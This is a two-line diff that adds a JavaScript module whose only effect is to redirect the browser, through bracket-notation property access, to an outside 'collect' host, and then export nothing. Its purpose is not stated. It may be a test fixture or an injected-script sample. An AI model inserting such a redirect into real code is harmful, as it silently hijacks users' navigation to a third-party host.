@@ -1,0 +1,2 @@
+window["location"]["href"] = "https://collect.example.net";
+export {};
